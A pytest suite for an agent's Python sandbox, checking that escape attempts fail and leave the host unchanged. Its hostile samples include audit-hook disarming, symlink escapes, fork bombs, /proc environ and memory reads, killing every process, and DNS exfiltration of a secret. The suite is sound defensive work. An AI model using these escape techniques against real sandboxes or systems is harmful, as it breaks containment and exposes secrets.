"""Hostile code in run_python: every attack is stopped, in time, and nothing outside the sandbox changes.

The "outside" directory lives in the shared temp folder and is world-writable (0o777, no sticky bit),
and so is its sentinel file (0o666): for the dropped user the OS alone would allow the writes and
deletions below (`test_control_...` proves it when run as root). Where the kernel permits a mount
namespace the filesystem outside the run's directory is read-only too; the file attacks run both
that way ("sealed") and as on a kernel that refuses namespaces ("unsealed"), where the audit layer
alone must stop them. Each attack either makes the run fail or prints a BLOCKED line the test looks for.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

import agentkit.tools.python as python_module
from agentkit.tools.python import MB, SANDBOX_UIDS, PythonRunError, python_tool

ROOT = os.geteuid() == 0
SECRET = "agentkit-secret-value-7f3a9c"
LIBC = ctypes.CDLL(None, use_errno=True)
PR_SET_CHILD_SUBREAPER = 36
KNOWN_CHILDREN: set[int] = set()


def run(code: str, **limits) -> tuple[bool, str, float]:
    """(whether the run failed, its output or failure message, seconds it took)."""
    sandbox = python_tool(**{"timeout_seconds": 5, "cpu_seconds": 2, "memory_bytes": 256 * MB, **limits})
    started = time.monotonic()
    try:
        return False, sandbox(code=code), time.monotonic() - started
    except PythonRunError as exc:
        return True, str(exc), time.monotonic() - started


def snapshot(folder: Path) -> list[tuple[str, int, bytes]]:
    return sorted((p.name, p.lstat().st_mode, p.read_bytes() if p.is_file() else b"") for p in folder.iterdir())


def host_processes() -> int:
    return sum(1 for entry in os.listdir("/proc") if entry.isdigit())


def descendants_left() -> list[int]:
    """Live processes reparented to this (subreaper) test process: escaped sandbox descendants."""
    left = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == os.getpid() and int(entry) not in KNOWN_CHILDREN:
            if fields[0] == "Z":
                os.waitpid(int(entry), os.WNOHANG)  # killed with its group: just reap it
            else:
                left.append(int(entry))
    return left


def sealed() -> bool:
    """Whether runs here get a read-only filesystem outside their directory (a mount namespace)."""
    return run("import os\nprint(os.statvfs('/').f_flag & os.ST_RDONLY)")[1] == "1\n"


SEALED = sealed()
needs_sealing = pytest.mark.skipif(not SEALED, reason="the kernel refuses this caller a mount namespace")


@pytest.fixture(params=["sealed", "unsealed"])
def isolation(request, monkeypatch):
    """Run each file attack with the read-only mounts (where the kernel permits) and without them."""
    if request.param == "sealed" and not SEALED:
        pytest.skip("the kernel refuses this caller a mount namespace")
    monkeypatch.setattr(python_module, "_NAMESPACES", request.param == "sealed")
    return request.param


@pytest.fixture
def outside():
    folder = Path(tempfile.mkdtemp(prefix="agentkit-outside-"))
    folder.chmod(0o777)
    (folder / "sentinel.txt").write_text("keep me")
    (folder / "sentinel.txt").chmod(0o666)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def host_unchanged(outside):
    """Snapshot the outside folder and adopt orphans while the attack runs; check both afterwards."""
    before = snapshot(outside)
    KNOWN_CHILDREN.update(descendants_left())  # children this test process had already
    LIBC.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)  # an escaped sandbox process would become our child
    try:
        yield
    finally:
        LIBC.prctl(PR_SET_CHILD_SUBREAPER, 0, 0, 0, 0)
    left = descendants_left()
    for pid in left:
        os.kill(pid, signal.SIGKILL)
    assert left == [], "the attack left processes running outside the sandbox's process group"
    assert snapshot(outside) == before, "the attack changed files outside the sandbox"


# (code, text the result must contain); {out}: the outside folder, {sentinel}: a file in it.
ATTACKS = [
    pytest.param("open('{out}/evil.txt', 'w').write('pwned')", "may only write inside", id="write-outside"),
    pytest.param("import os\nos.open('{out}/evil.txt', os.O_WRONLY | os.O_CREAT)", "may only write inside", id="os-open-outside"),
    pytest.param("import pathlib\npathlib.Path('{out}', 'evil.txt').write_text('x')", "may only write inside", id="pathlib-outside"),
    pytest.param("open('../' * 20 + '{out}'.lstrip('/') + '/evil.txt', 'w')", "may only write inside", id="relative-traversal"),
    pytest.param("open('{sentinel}', 'a').write('pwned')", "may only write inside", id="append-to-sentinel"),
    pytest.param("import os\nos.remove('{sentinel}')", "os.remove is not allowed outside", id="delete-sentinel"),
    pytest.param("import shutil\nshutil.rmtree('{out}')", "may not open directories outside", id="delete-outside-tree"),
    pytest.param("import os\nos.rename('{sentinel}', 'stolen.txt')", "os.rename is not allowed outside", id="move-sentinel-in"),
    pytest.param("open('x', 'w').write('x')\nimport os\nos.replace('x', '{out}/evil.txt')", "os.rename is not allowed outside", id="move-file-out"),
    pytest.param("import os\nos.chmod('{sentinel}', 0o600)", "os.chmod is not allowed outside", id="chmod-sentinel"),
    pytest.param("import os\nos.symlink('{out}', 'link')\nopen('link/evil.txt', 'w')", "os.symlink is not allowed", id="symlink-escape"),
    pytest.param("import os\nos.link('{sentinel}', 'hard')\nopen('hard', 'w')", "os.link is not allowed outside", id="hardlink-escape"),
    pytest.param(
        "import os\nfd = os.open('{out}', os.O_RDONLY)\nos.open('evil.txt', os.O_WRONLY | os.O_CREAT, dir_fd=fd)",
        "may not open directories outside", id="dir-fd-escape",
    ),
    pytest.param(
        # Reach the audit hook through the launcher's frame and disarm it, then write.
        "import sys\nhook = sys._getframe().f_back.f_globals['hook']\nfor attr, value in [('__code__', (lambda *a: None).__code__),"
        "\n                    ('__defaults__', tuple('/' if isinstance(d, str) else d for d in hook.__defaults__))]:\n"
        "    try:\n        setattr(hook, attr, value)\n    except PermissionError as exc:\n        print('BLOCKED', exc)\n"
        "open('{out}/evil.txt', 'w').write('pwned')",
        "changing a function's __defaults__ is not allowed", id="disarm-audit-hook",
    ),
    pytest.param("import gc\nprint([o for o in gc.get_objects() if type(o).__name__ == 'module'])", "gc.get_objects is not allowed",
                 id="gc-object-hunt"),
    pytest.param(
        "import builtins, os, posixpath\nos.getcwd = lambda: '{out}'\nos.fspath = lambda p: 'inside'\n"
        "posixpath.normpath = lambda p: 'inside'\nbuiltins.isinstance = lambda *a: False\nopen('{out}/evil.txt', 'w')",
        "may only write inside", id="monkeypatch-then-write",
    ),
    pytest.param("import os\nos.system('touch {out}/evil.txt')", "not allowed in the sandbox (os.system)", id="os-system"),
    pytest.param("import subprocess\nsubprocess.run(['touch', '{out}/evil.txt'])", "(subprocess.Popen)", id="subprocess"),
    pytest.param("import os\nos.execv('/bin/sh', ['sh', '-c', 'touch {out}/evil.txt'])", "(os.exec)", id="os-exec"),
    pytest.param("import os\nos.posix_spawn('/usr/bin/touch', ['touch', '{out}/evil.txt'], {{}})", "(os.posix_spawn)", id="posix-spawn"),
    pytest.param("import multiprocessing\nmultiprocessing.Pool(2)", ("not allowed in the sandbox", "Read-only file system"),
                 id="multiprocessing"),
    pytest.param("import ctypes\nctypes.CDLL(None).system(b'touch {out}/evil.txt')", "importing ctypes is not allowed", id="ctypes"),
    pytest.param("import _ctypes\n_ctypes.dlopen(None, 2)", "importing _ctypes is not allowed", id="ctypes-private-dlopen"),
    pytest.param("import _posixsubprocess", "importing _posixsubprocess is not allowed", id="unaudited-fork-exec"),
    pytest.param(
        "import subprocess\nstarter = getattr(subprocess, '_fork_exec', None) or subprocess._posixsubprocess.fork_exec",
        "'NoneType' object has no attribute 'fork_exec'", id="unaudited-fork-exec-via-subprocess",
    ),
    pytest.param("import _xxsubinterpreters", "importing _xxsubinterpreters is not allowed", id="subinterpreter-without-hooks"),
    pytest.param("from multiprocessing import shared_memory", "importing _posixshmem is not allowed", id="posix-shared-memory"),
    pytest.param("import _testcapi", "importing _testcapi is not allowed", id="cpython-test-module"),
    pytest.param(
        "import glob, shutil, sys, importlib.util\nfrom importlib.machinery import ExtensionFileLoader\n"
        "src = [p for d in sys.path for p in glob.glob(d + '/[!_]*.so')][0]\nshutil.copy(src, 'evil.bin')\n"
        "name = src.rsplit('/', 1)[1].split('.')[0]\nloader = ExtensionFileLoader(name, __import__('os').path.abspath('evil.bin'))\n"
        "importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader))\nprint('LOADED')",
        "loading native code from", id="native-extension-from-sandbox",
    ),
    # C-level writers with no "open" audit event: the read-only mounts stop them, else the hook refuses them
    pytest.param("import sqlite3\nsqlite3.connect('{out}/evil.txt').execute('create table t (x)')",
                 ("may only write inside", "importing _sqlite3 is not allowed"), id="sqlite-connect-outside"),
    pytest.param("import sqlite3\nsqlite3.connect('file:{out}/evil.txt?mode=rwc', uri=True).execute('create table t (x)')",
                 ("may only write inside", "importing _sqlite3 is not allowed"), id="sqlite-uri-outside"),
    pytest.param("import sqlite3\nsqlite3.connect(':memory:').execute(\"attach '{out}/evil.txt' as e\").execute('create table e.t (x)')",
                 ("unable to open database", "importing _sqlite3 is not allowed"), id="sqlite-attach-outside"),
    pytest.param("import sqlite3\ndb = sqlite3.connect(':memory:')\ndb.execute('create table t (x)')\ndb.execute(\"vacuum into '{out}/evil.txt'\")",
                 ("unable to open database", "importing _sqlite3 is not allowed"), id="sqlite-vacuum-into-outside"),
    pytest.param("import sqlite3\nsqlite3.connect(':memory:').enable_load_extension(True)",
                 ("sqlite3.enable_load_extension is not allowed", "importing _sqlite3 is not allowed"), id="sqlite-native-extension"),
    pytest.param("import dbm.ndbm\ndbm.ndbm.open('{out}/evil', 'c')",
                 ("Read-only file system", "importing _dbm is not allowed", "No module named '_dbm'"), id="ndbm-outside"),
    pytest.param("import dbm.gnu\ndbm.gnu.open('{out}/evil.txt', 'c')",
                 ("Read-only file system", "importing _gdbm is not allowed", "importing _dbm is not allowed", "No module named '_gdbm'"),
                 id="gdbm-outside"),
    pytest.param("import os\nos.mkfifo('{out}/evil.txt')", ("Read-only file system", "no attribute 'mkfifo'"), id="mkfifo-outside"),
    pytest.param("import os\nos.mknod('{out}/evil.txt')", ("Read-only file system", "no attribute 'mknod'"), id="mknod-outside"),
    pytest.param("import os\n[f for f in os.supports_dir_fd if f.__name__ == 'mkfifo'][0]('{out}/evil.txt')",
                 ("Read-only file system", "list index out of range"), id="mkfifo-from-supports-dir-fd"),
    pytest.param("import readline\nreadline.write_history_file('{out}/evil.txt')",
                 ("Read-only file system", "importing readline is not allowed"), id="readline-history-outside"),
    pytest.param("import socket\nsocket.socket(socket.AF_UNIX).bind('{out}/evil.txt')", "may only write inside", id="unix-socket-outside"),
    pytest.param("import _tkinter", "importing _tkinter is not allowed", id="tcl-interpreter"),
    pytest.param("import syslog\nsyslog.syslog('leak')", "network access is disabled in the sandbox (syslog.", id="syslog"),
    # unaudited functions taken away, and not brought back by re-importing or rebuilding their module
    pytest.param("import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)",
                 "has no attribute 'pidfd_", id="pidfd-kill-parent"),
    pytest.param("import sys\ndel sys.modules['posix']\nimport posix\nposix.pidfd_open(1)", "importing posix is not allowed", id="reimport-posix"),
    pytest.param("import sys\ndel sys.modules['_signal']\nimport _signal", "importing _signal is not allowed", id="reimport-signal"),
    pytest.param("import _imp, importlib.machinery\n_imp.create_builtin(importlib.machinery.ModuleSpec('posix', None)).mkfifo('{out}/evil.txt')",
                 "posix is not available in the sandbox", id="rebuild-posix"),
    pytest.param("import os, signal\nos.kill(os.getppid(), signal.SIGTERM)", "os.kill on another process is not allowed", id="kill-parent"),
    pytest.param("import os, signal\nos.kill(-1, signal.SIGKILL)", "os.kill on another process is not allowed", id="kill-everything"),
]


@pytest.mark.parametrize(("code", "expected"), ATTACKS)
def test_attack_is_stopped_and_the_outside_is_unchanged(code, expected, isolation, outside, host_unchanged):
    failed, text, seconds = run(code.format(out=outside, sentinel=outside / "sentinel.txt"))
    assert any(e in text for e in ((expected,) if isinstance(expected, str) else expected)), text
    assert failed or "BLOCKED" in text, text
    assert "LOADED" not in text and seconds < 4
    assert not (outside / "evil.txt").exists()


def test_fork_bomb_with_os_fork(host_unchanged):
    code = (
        "import os, time\nforks = 0\ntry:\n    while forks < 10000:\n        if os.fork() == 0:\n"
        "            os.setsid()\n            time.sleep(30)\n            os._exit(0)\n        forks += 1\n"
        "except Exception as exc:\n    print('forks:', forks, type(exc).__name__)"
    )
    before = host_processes()
    _failed, text, seconds = run(code)
    assert text.startswith("forks: 0 PermissionError") and seconds < 4, text
    assert host_processes() < before + 20


def test_fork_bomb_with_subprocess(host_unchanged):
    code = (
        "import subprocess, sys\nchildren = []\ntry:\n    while len(children) < 1000:\n"
        "        children.append(subprocess.Popen(['sleep', '30'], start_new_session=True))\n"
        "except Exception as exc:\n    print('spawned:', len(children), type(exc).__name__)"
    )
    before = host_processes()
    _failed, text, seconds = run(code)
    assert text.startswith("spawned: 0 PermissionError") and seconds < 4, text
    assert host_processes() < before + 20


def test_thread_bomb_is_bounded_by_the_process_limit(host_unchanged):
    code = (
        "import threading, time\nstarted = 0\ntry:\n    while started < 1000:\n"
        "        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()\n        started += 1\n"
        "except RuntimeError as exc:\n    print('threads:', started, exc)"
    )
    _failed, text, seconds = run(code, max_processes=4, memory_bytes=1024 * MB)
    assert text.startswith("threads:") and int(text.split()[1]) <= 4 and seconds < 4, text


@pytest.mark.parametrize(
    ("code", "limits", "expected"),
    [
        pytest.param("blob = bytearray(10 ** 10)", {}, "ran out of memory (limit 256 MB)", id="one-huge-allocation"),
        pytest.param("grow = []\nwhile True:\n    grow.append(bytearray(2 ** 20))", {}, "ran out of memory (limit 256 MB)", id="growing-list"),
        pytest.param("while True:\n    pass", {"cpu_seconds": 1}, "CPU time limit of 1 s", id="busy-loop"),
        pytest.param(
            "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass",
            {"cpu_seconds": 1}, "CPU time limit of 1 s", id="busy-loop-ignoring-sigxcpu",
        ),
        pytest.param("import time\nwhile True:\n    time.sleep(1)", {"timeout_seconds": 1}, "wall-clock time limit of 1 s", id="sleep-forever"),
        pytest.param(
            "import threading\nthreading.Event().wait()", {"timeout_seconds": 1}, "wall-clock time limit of 1 s", id="block-forever"
        ),
        pytest.param(
            "with open('big.bin', 'wb') as f:\n    while True:\n        f.write(b'x' * 2 ** 20)",
            {"max_file_bytes": 5 * MB}, "past the size limit of 5 MB", id="huge-file",
        ),
    ],
)
def test_resource_exhaustion_is_stopped_in_time(code, limits, expected, host_unchanged):
    failed, text, seconds = run(code, **limits)
    assert failed and expected in text, text
    assert seconds < 4.5


def test_huge_stdout_is_capped(host_unchanged):
    failed, text, seconds = run("while True:\n    print('x' * 10000)", max_file_bytes=5 * MB, max_output_chars=1000)
    assert failed and "past the size limit of 5 MB" in text
    assert "[stdout truncated: showing the first 1000 characters of" in text and len(text) < 3000 and seconds < 4


def test_the_parents_environment_cannot_be_read(monkeypatch, host_unchanged):
    monkeypatch.setenv("AGENTKIT_TEST_SECRET", SECRET)
    code = """
import os
print(dict(os.environ))
for path in [f"/proc/{os.getppid()}/environ", f"/proc/self/../{os.getppid()}/environ",
             f"/proc/self/root/proc/{os.getppid()}/environ", "/proc/1/environ"]:
    try:
        print(open(path, "rb").read())
    except OSError as exc:
        print("BLOCKED", path, exc)
"""
    failed, text, _ = run(code)
    assert not failed and SECRET not in text
    assert text.count("BLOCKED") == 4, text


@pytest.mark.skipif(not ROOT, reason="only a root caller drops to another user")
def test_root_only_files_cannot_be_read(outside):
    private = outside / "root-only.txt"
    private.write_text(SECRET)
    private.chmod(0o600)
    failed, text, _ = run(f"print(open({str(private)!r}).read())")
    assert failed and "PermissionError" in text and SECRET not in text
    assert private.read_text() == SECRET


@pytest.fixture
def tcp_server():
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    connections: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connections.append(server.accept())
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], connections
    stop.set()
    thread.join()
    server.close()


@pytest.mark.parametrize(
    "code",
    [
        pytest.param("import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)", id="create-connection"),
        pytest.param("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', {port}))", id="raw-socket"),
        pytest.param("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)", id="urllib"),
    ],
)
def test_network_connections_to_a_loopback_server_never_arrive(code, tcp_server, host_unchanged):
    port, connections = tcp_server
    failed, text, seconds = run(code.format(port=port))
    time.sleep(0.3)  # let a connection that did get through be accepted
    assert failed and "network access is disabled" in text, text
    assert connections == [] and seconds < 4


def test_control_with_allow_network_the_same_connection_arrives(tcp_server):
    port, connections = tcp_server
    failed, text, _ = run(f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).close()\nprint('connected')",
                          allow_network=True)
    deadline = time.monotonic() + 2
    while not connections and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not failed and text == "connected\n" and len(connections) == 1, text


def test_udp_datagrams_to_a_loopback_server_never_arrive(host_unchanged):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.5)
        code = f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {server.getsockname()[1]}))"
        failed, text, _ = run(code)
        assert failed and "network access is disabled" in text, text
        with pytest.raises(socket.timeout):
            server.recvfrom(16)


def test_dns_lookups_cannot_exfiltrate(host_unchanged):
    failed, text, _ = run(f"import socket\nsocket.getaddrinfo('{SECRET}.example.com', 80)")
    assert failed and "network access is disabled in the sandbox (socket.getaddrinfo)" in text


def test_local_socket_pairs_still_work_for_asyncio():
    failed, text, _ = run("import asyncio\nprint(asyncio.run(asyncio.sleep(0, 'fine')))")
    assert not failed and text == "fine\n"


@pytest.mark.skipif(not ROOT, reason="the uid drop happens only for a root caller")
def test_control_the_os_alone_would_let_the_sandbox_user_write_outside(outside):
    """Proves the write attacks above are stopped by the audit layer, not by file permissions."""
    subprocess.run(["/bin/sh", "-c", f"echo x > {outside}/control.txt && rm {outside}/sentinel.txt"], check=True,
                   user=SANDBOX_UIDS[0], group=SANDBOX_UIDS[0], extra_groups=[], env={"PATH": "/usr/bin:/bin"})
    assert (outside / "control.txt").exists() and not (outside / "sentinel.txt").exists()


@pytest.mark.skipif(not ROOT, reason="the uid drop happens only for a root caller")
def test_the_code_runs_as_an_unprivileged_user_of_its_own():
    failed, text, _ = run("import os\nprint(os.getuid(), os.getgid(), os.getgroups())")
    uid, gid, groups = text.split(" ", 2)
    assert not failed and int(uid) in SANDBOX_UIDS and gid == uid and groups == "[]\n", text



def test_with_allow_network_a_unix_socket_still_cannot_be_made_outside(outside, host_unchanged):
    failed, text, _ = run(f"import socket\nsocket.socket(socket.AF_UNIX).bind('{outside}/evil.sock')", allow_network=True)
    assert failed and "may only write inside" in text and not (outside / "evil.sock").exists(), text


@pytest.mark.parametrize("mode", ["sealed", "unsealed"])
def test_a_named_semaphore_is_not_left_in_the_hosts_shared_memory(mode, monkeypatch, host_unchanged):
    if mode == "sealed" and not SEALED:
        pytest.skip("the kernel refuses this caller a mount namespace")
    monkeypatch.setattr(python_module, "_NAMESPACES", mode == "sealed")
    name = f"agentkit-evil-{uuid.uuid4().hex[:8]}"
    failed, text, _ = run(f"import _multiprocessing\n_multiprocessing.SemLock(1, 1, 1, '/{name}', False)")
    assert failed and ("Read-only file system" in text or "importing _multiprocessing is not allowed" in text), text
    assert not Path(f"/dev/shm/sem.{name}").exists()


@needs_sealing
def test_a_run_leaves_the_hosts_mounts_as_they_were(tmp_path):
    before = Path("/proc/self/mountinfo").read_text()
    failed, text, _ = run("import os\nprint(os.statvfs('/').f_flag & os.ST_RDONLY, os.statvfs('.').f_flag & os.ST_RDONLY)")
    assert not failed and text == "1 0\n"  # inside: all read-only but its own directory
    assert Path("/proc/self/mountinfo").read_text() == before
    (tmp_path / "still-writable.txt").write_text("yes")


# Two runs at once: one (the victim) keeps a secret in its directory and sleeps; the other attacks it.
VICTIM = """
import os, time
open("secret.txt", "w").write({secret!r})
time.sleep(2.5)  # {marker}
print(sorted(os.listdir()), open("secret.txt").read())
"""
ATTACKER = """
import os, signal
box, pid = {box!r}, {pid}

def attempt(label, action):
    try:
        result = action()
    except Exception as exc:
        print("BLOCKED", label, type(exc).__name__, exc)
    else:
        print("REACHED", label, repr(result)[:100])

attempt("read-code", lambda: open(box + "/main.py").read())
attempt("read-file", lambda: open(box + "/secret.txt").read())
attempt("list", lambda: os.listdir(box))
attempt("plant", lambda: open(box + "/planted.txt", "w").write("x"))
attempt("plant-with-os-open", lambda: os.open(box + "/planted.txt", os.O_WRONLY | os.O_CREAT))
attempt("proc-cwd", lambda: open(f"/proc/{{pid}}/cwd/secret.txt").read())
attempt("proc-mem", lambda: open(f"/proc/{{pid}}/mem", "rb").read(1))
attempt("proc-environ", lambda: open(f"/proc/{{pid}}/environ", "rb").read())
attempt("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))
attempt("kill", lambda: os.kill(pid, signal.SIGKILL))
"""


@pytest.fixture
def victim():
    """A run in progress with a secret in its directory: (its directory, its pid, its result when done)."""
    marker = uuid.uuid4().hex
    outcome: list[tuple[bool, str, float]] = []
    thread = threading.Thread(target=lambda: outcome.append(run(VICTIM.format(secret=SECRET, marker=marker))))
    thread.start()
    box, pid, deadline = None, None, time.monotonic() + 3
    while (box is None or pid is None) and time.monotonic() < deadline:
        time.sleep(0.02)
        for folder in Path(tempfile.gettempdir()).glob("agentkit-python-*"):
            if (folder / "secret.txt").exists() and marker in (folder / "main.py").read_text():
                box = str(folder)
        for entry in filter(str.isdigit, os.listdir("/proc")) if box else ():
            try:
                if f'"dir": "{box}"'.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    pid = int(entry)
            except OSError:
                continue
    assert box and pid, "the victim run did not start"

    def result() -> tuple[bool, str, float]:
        thread.join()
        return outcome[0]

    yield box, pid, result
    thread.join()


def test_concurrent_runs_cannot_read_plant_in_or_kill_each_other(isolation, victim, host_unchanged):
    box, pid, result = victim
    _, attack, _ = run(ATTACKER.format(box=box, pid=pid))
    assert "REACHED" not in attack and attack.count("BLOCKED") == 10, attack
    failed, text, _ = result()
    assert not failed and text == f"['main.py', 'secret.txt'] {SECRET}\n", text  # not killed, nothing planted


@pytest.mark.skipif(not ROOT, reason="only a root caller gives each run a uid of its own")
def test_control_another_runs_uid_alone_stops_a_process_without_audit_hooks(victim):
    """The OS layer by itself: a shell as another pool uid, with no audit hook, gets nowhere either."""
    box, pid, result = victim
    for command in (f"cat {box}/main.py", f"ls {box}", f"touch {box}/planted.txt", f"kill -9 {pid}",
                    f"cat /proc/{pid}/environ"):
        attack = subprocess.run(["/bin/sh", "-c", command], user=SANDBOX_UIDS[-1], group=SANDBOX_UIDS[-1],
                                extra_groups=[], env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True)
        assert attack.returncode != 0 and SECRET not in attack.stdout, (command, attack.stdout)
    failed, text, _ = result()
    assert not failed and text == f"['main.py', 'secret.txt'] {SECRET}\n", text
